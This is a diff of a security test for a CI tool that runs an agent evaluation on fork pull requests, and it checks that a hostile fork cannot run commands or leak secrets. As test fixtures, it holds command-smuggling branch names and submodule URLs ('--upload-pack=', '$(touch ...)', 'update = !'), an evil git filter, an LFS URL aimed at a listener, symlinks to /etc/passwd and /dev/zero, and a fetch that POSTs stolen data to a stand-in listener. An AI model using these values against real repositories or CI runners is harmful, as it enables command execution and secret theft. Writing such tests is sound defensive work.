@@ -1,5 +1,5 @@
 /** A fork's pull request in a run that has secrets: its agent, what the base says, and nothing of the base's that leaves. */
-import { readFileSync } from 'node:fs';
+import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
 import { zipOf } from '../../platform/github/zip.ts';
@@ -8,6 +8,7 @@ import { begin, commit, git, worktreesOf } from '../../support/git-repository.ts
 import { addCommit, addRepository, type PullRequest, type Repository, setLabel } from '../../support/github-server.ts';
 import type { Job } from '../../support/local-github.ts';
 import { type ModelServer, startModelServer } from '../../support/model-server.ts';
+import { temporaryFolder } from '../../support/runner.ts';
 import { checkOut, openStage, RETURNS, type Run, SECRET, SECRET_FORMS, type Stage } from './stage.ts';
 
 let stage: Stage;
@@ -62,8 +63,9 @@ afterEach(() => expect(stage.github.server.violations).toEqual([]));
 
 type Opened = ReturnType<typeof opened>['run'];
 /** The first stage's run of a fork's branch with these files, and the pull request. */
-function opened(branch: string, files: Readonly<Record<string, string>>) {
+function opened(branch: string, files: Readonly<Record<string, string>>, change: (folder: string) => void = () => {}) {
   git(folder, 'checkout', '-q', '-B', 'theirs', base);
+  change(folder);
   const sha = commit(folder, files);
   git(folder, 'checkout', '-q', '--detach', base);
   addCommit(stage.github.server.state, { sha, parents: [fork.refs.get('heads/main')!], message: 'Change the agent' });
@@ -198,6 +200,46 @@ await fetch('${listener.url}/stolen', { method: 'POST', body: all });`;
   ].join('\n');
   for (const form of [...SECRET_FORMS, result.job.token, result.job.env.ACTIONS_RUNTIME_TOKEN])
     expect(everything).not.toContain(form);
+});
+
+it('one whose tree and branch are hostile gives nothing but its agent, which sends nobody elsewhere', async () => {
+  const outside = temporaryFolder('outside-');
+  const redirecting = `import { createServer } from 'node:http';
+const codes = [301, 302, 303, 307, 308];
+createServer((request, response) => {
+  request.resume();
+  if (request.method !== 'GET') response.writeHead(codes.push(codes.shift()) && codes[0], { location: '${listener.url}/moved' });
+  response.end();
+}).listen(Number(process.env.PORT), '127.0.0.1');
+`;
+  const touch = `touch ${join(outside, 'touched')}`;
+  const attributes = '* filter=evil\n*.bin filter=lfs diff=lfs merge=lfs -text\nagent.mjs ident export-subst\n';
+  const modules = `[submodule "x"]\n path = vendor\n url = --upload-pack=${touch}\n update = !${touch}\n`;
+  const { pull, run } = opened(
+    `--upload-pack=${touch.replaceAll(' ', '${IFS}')};$(${touch})&state=open#`,
+    {
+      'agent.mjs': redirecting,
+      '.gitattributes': attributes,
+      '.gitmodules': modules,
+      '.lfsconfig': `[lfs]\n url = ${listener.url}\n`,
+    },
+    (tree) => {
+      for (const name of ['agent-eval.yml', 'evals', 'package-lock.json', '.agent-eval'])
+        rmSync(join(tree, name), { recursive: true, force: true });
+      symlinkSync('/etc/passwd', join(tree, 'agent-eval.yml'));
+      for (const name of ['evals', '.agent-eval']) symlinkSync(outside, join(tree, name));
+      symlinkSync('/dev/zero', join(tree, 'package-lock.json'));
+      mkdirSync(join(tree, 'vendor'));
+      git(tree, 'update-index', '--add', '--cacheinfo', `160000,${base},vendor`);
+    },
+  );
+  const before = [listener.asked.length, judge.requests.length];
+  const { exitCode, outputs, outcome } = await secondStage(run);
+  expect([exitCode, outputs.conclusion]).toEqual([3, 'could-not-run']);
+  expect(outcome.report.cases.map(({ status }) => status)).not.toContain('passed');
+  expect([listener.asked.length, judge.requests.length]).toEqual(before);
+  expect(readdirSync(outside)).toEqual([]);
+  expect([outcome.run.sha, bodies(pull).length]).toEqual([pull.head.sha, 1]);
 });
 
 it('nothing is published, and nobody asked, for a head that has moved on, or a pull request that is closed', async () => {
